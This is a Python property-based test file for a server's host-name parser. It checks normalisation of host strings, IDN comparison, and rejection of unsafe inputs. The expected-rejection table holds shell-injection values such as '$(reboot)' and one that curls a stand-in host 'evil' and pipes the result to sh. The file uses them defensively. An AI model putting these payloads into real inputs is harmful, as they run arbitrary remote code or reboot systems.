"""Tests that hosts are recognised in the forms in which people and clients write them."""

from hypothesis import given
from hypothesis import strategies as some

from mendax.server.settings.host_names import address_in, host_in, plain_name

FORMS = {
    "vm": "vm",
    "VM.:8443": "vm",
    "https://vm:8443/": "vm",
    "[FD00::5]:8000": "fd00::5",
    "::1": "::1",
    "fe80::1%eth0": "fe80::1%eth0",
    "10.244.1.7:8000": "10.244.1.7",
    "a_b.example": "a_b.example",
    "ftp://vm": None,
    "vm:port": None,
    "vm/path": None,
    "me@vm": None,
    "a b": None,
    "*.example": None,
    "$(reboot)": None,
    "[fe80::1%$(curl${IFS}evil|sh)]": None,
    "fe80::1%$(reboot)": None,
    "[fe80::1%]": None,
    "[": None,
    "": None,
}


def test_hosts_are_found_in_every_form() -> None:
    assert {form: host_in(form) for form in FORMS} == FORMS


@given(some.text(max_size=60))
def test_a_found_host_is_itself_and_safe_in_a_shell(text: str) -> None:
    host = host_in(text)
    if host is not None:
        assert host_in(host) == host
        assert not set(host) & set(" \t\n'\"`$;&|<>()*?\\")


@given(some.ip_addresses())
def test_addresses_are_read_with_and_without_brackets(address: object) -> None:
    assert address_in(str(address)) == address_in(f"[{address}]") == str(address)


def test_names_are_compared_in_lower_case_and_ascii() -> None:
    assert plain_name("Кубок.Example.") == plain_name("xn--90arbpx.example")
